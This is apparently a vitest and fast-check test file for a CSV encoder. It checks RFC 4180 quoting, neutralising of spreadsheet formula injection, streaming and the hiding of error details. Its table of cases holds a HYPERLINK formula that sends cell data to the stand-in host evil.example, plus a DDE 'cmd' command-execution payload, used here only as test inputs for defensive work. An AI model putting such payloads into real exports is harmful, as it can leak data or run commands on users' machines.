import { csvCell, csvRow, csvStream } from "@dotmac/core/platform/csv";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

/** A small RFC 4180 reader, independent of the encoder: rows of cells, CRLF or LF line ends. */
function parseCsv(input: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  let quoted = false;
  while (i < input.length) {
    const ch = input[i] as string;
    if (quoted) {
      if (ch === '"' && input[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        cell += ch;
        i++;
      }
    } else if (ch === '"') {
      if (cell !== "") throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
      i++;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
      i++;
    } else if (ch === "\r" && input[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else if (ch === "\r" || ch === "\n") {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += ch;
      i++;
    }
  }
  if (quoted) throw new Error("unterminated quoted cell");
  if (cell !== "" || row.length) throw new Error("last row is not CRLF-terminated");
  return rows;
}

const triggers = ["=", "+", "-", "@", "\t", "\r", "\n"];
/** What a spreadsheet would take as a formula: a trigger first, or behind leading spaces. */
const dangerous = (s: string) => triggers.includes(s[0] ?? "") || /^ +[=+\-@]/.test(s);
/** What the reader must give back: the cell itself, with one `'` in front when it was dangerous. */
const expected = (s: string) => (dangerous(s) ? `'${s}` : s);

// Strings biased towards the characters that matter: quotes, separators, line breaks, triggers.
const nasty = fc.string({
  unit: fc.oneof(
    fc.constantFrom('"', ",", "\r", "\n", "\t", "=", "+", "-", "@", "'", " ", "|", "!"),
    fc.string({ minLength: 1, maxLength: 1 }),
    fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }),
  ),
  maxLength: 20,
});

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe("csv encoder", () => {
  it("round-trips any row of strings through an RFC 4180 reader, modulo the neutralising quote", () => {
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1, maxLength: 8 }), (cells) => {
        const line = csvRow(cells);
        expect(line.endsWith("\r\n")).toBe(true);
        const parsed = parseCsv(line);
        expect(parsed).toHaveLength(1);
        expect(parsed[0]).toEqual(cells.map(expected));
      }),
      { numRuns: 2000 },
    );
  });

  it("no parsed cell starts like a formula, and every dangerous cell got exactly the ' prefix", () => {
    fc.assert(
      fc.property(fc.array(nasty, { minLength: 1, maxLength: 8 }), (cells) => {
        const parsed = parseCsv(csvRow(cells))[0] ?? [];
        parsed.forEach((out, i) => {
          expect(dangerous(out)).toBe(false);
          const input = cells[i] as string;
          expect(out).toBe(expected(input));
        });
      }),
      { numRuns: 2000 },
    );
  });

  it("many rows round-trip too (CRLF inside cells never splits a row)", () => {
    fc.assert(
      fc.property(fc.array(fc.array(nasty, { minLength: 1, maxLength: 4 }), { maxLength: 10 }), (rows) => {
        const parsed = parseCsv(rows.map(csvRow).join(""));
        expect(parsed).toEqual(rows.map((r) => r.map(expected)));
      }),
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["-5", "'-5"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ["\n=1", `"'\n=1"`],
    ["  =1", "'  =1"],
    ['say "hi"', '"say ""hi"""'],
    ["a,b", '"a,b"'],
    ["line1\r\nline2", '"line1\r\nline2"'],
    ["plain", "plain"],
    ["a=b", "a=b"],
    ["'already", "'already"],
    ["", ""],
  ])("text %j is written as %j", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it("writes numbers (negative too), dates, booleans and empties as data, not text", () => {
    expect(csvRow([-5, 0, 3.25, 10n, true, null, undefined, new Date("2026-11-26T04:00:00.000Z")])).toBe(
      "-5,0,3.25,10,true,,,2026-11-26T04:00:00.000Z\r\n",
    );
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(new Date(Number.NaN))).toBe("");
  });

  it("writes objects as JSON text, neutralised and quoted like any text", () => {
    expect(csvCell({ status: { from: "a", to: "b" } })).toBe('"{""status"":{""from"":""a"",""to"":""b""}}"');
    expect(csvCell(["=1"])).toBe('"[""=1""]"');
  });

  it("streams the header then each row, pulling rows only as they are read", async () => {
    let produced = 0;
    async function* rows() {
      for (let i = 0; i < 3; i++) {
        produced++;
        yield [i, `=row ${i}`];
      }
    }
    const text = await readAll(await csvStream(["n", "label"], rows()));
    expect(produced).toBe(3);
    expect(parseCsv(text)).toEqual([
      ["n", "label"],
      ["0", "'=row 0"],
      ["1", "'=row 1"],
      ["2", "'=row 2"],
    ]);
  });

  it("stops the source when the reader cancels", async () => {
    let finished = false;
    async function* rows() {
      try {
        for (let i = 0; ; i++) yield [i];
      } finally {
        finished = true;
      }
    }
    const reader = (await csvStream(["n"], rows())).getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    expect(finished).toBe(true);
  });

  it("issue 9 finding 4: a source that fails before the first row rejects, so the request can still answer problem+json", async () => {
    async function* rows(): AsyncGenerator<unknown[]> {
      yield* [];
      throw new Error('date/time field value out of range: "+275760-09-13" (select ... from ticket)');
    }
    await expect(csvStream(["n"], rows() as AsyncIterable<[]>)).rejects.toThrow(/out of range/);
  });

  it("issue 9 finding 4: a failure mid-stream ends the download with a generic error, never the cause", async () => {
    async function* rows() {
      yield [1];
      yield [2];
      throw new Error("select secret_column from ticket where … violates constraint");
    }
    const reader = (await csvStream(["n"], rows())).getReader();
    const seen: string[] = [];
    const error = await (async () => {
      for (;;) {
        const next = await reader.read();
        if (next.done) return undefined;
        seen.push(new TextDecoder().decode(next.value));
      }
    })().catch((e: unknown) => e as Error);
    expect(seen.join("")).toBe("n\r\n1\r\n2\r\n");
    expect(error?.message).toBe("The export stopped before the end; download it again");
  });
});
